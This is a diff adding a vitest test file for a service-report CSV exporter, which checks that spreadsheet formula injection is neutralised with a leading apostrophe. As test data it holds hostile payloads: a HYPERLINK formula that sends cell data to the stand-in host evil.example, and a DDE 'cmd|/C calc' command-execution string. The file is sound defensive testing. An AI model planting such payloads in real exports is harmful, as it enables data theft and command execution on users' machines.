@@ -1,0 +1,73 @@
+import { describe, expect, it } from 'vitest';
+import type { SummaryReport } from '../../db/report-store';
+import { reportCsv } from '../../api/report-format';
+
+/** A report with nothing in it but what each test sets. */
+function report(overrides: Partial<SummaryReport> = {}): SummaryReport {
+  return {
+    period: { from: '2026-12-01', to: '2026-12-02', timeZone: 'Asia/Shanghai' },
+    tickets: { total: 0, byStatus: {}, byCategory: {}, byPriority: {}, byChannel: {} },
+    firstResponse: { averageSeconds: null, p90Seconds: null, compliancePercent: null },
+    resolution: { compliancePercent: null },
+    averageSecondsToOnSite: null,
+    completionRatePercent: null,
+    firstTimeFixRatePercent: null,
+    repeatRepairRatePercent: null,
+    csat: {
+      callbacks: 0,
+      responsiveness: null,
+      professionalism: null,
+      attitude: null,
+      resolution: null,
+      overall: null,
+      recommend: null,
+    },
+    csatTrend: [],
+    escalations: { total: 0, byLevel: {}, byReason: {} },
+    topCauses: [],
+    costs: { averagePartsCost: null, averageVisitCost: null },
+    ...overrides,
+  };
+}
+
+const rowsOf = (csv: string) => csv.trimEnd().split('\r\n');
+
+describe('report CSV', () => {
+  it('writes text a spreadsheet would run as a formula with a leading apostrophe', () => {
+    const causes = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '+1+cmd|/C calc!A0',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\tTab first',
+      '\rReturn first',
+      'Worn bearing',
+    ];
+    const csv = reportCsv(report({ topCauses: causes.map((cause) => ({ cause, count: 1 })) }));
+    const lines = rowsOf(csv);
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        `topCauses,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",1`,
+        `topCauses,'+1+cmd|/C calc!A0,1`,
+        `topCauses,'-2+3,1`,
+        `topCauses,'@SUM(A1:A9),1`,
+        `topCauses,'\tTab first,1`,
+        'topCauses,Worn bearing,1',
+      ]),
+    );
+    // The carriage return is inside a quoted field, after the apostrophe.
+    expect(csv).toContain(`topCauses,"'\rReturn first",1\r\n`);
+    // No cell of the file starts with a formula character.
+    const cells = csv.split(/\r\n/).flatMap((line) => line.split(','));
+    expect(cells.filter((cell) => /^"?[=+\-@\t]/.test(cell))).toEqual([]);
+  });
+
+  it('writes numbers, negative ones too, as numbers', () => {
+    const csv = reportCsv(
+      report({ firstResponse: { averageSeconds: -5, p90Seconds: 12, compliancePercent: 50 } }),
+    );
+    expect(rowsOf(csv)).toEqual(
+      expect.arrayContaining(['firstResponse,averageSeconds,-5', 'firstResponse,p90Seconds,12']),
+    );
+  });
+});
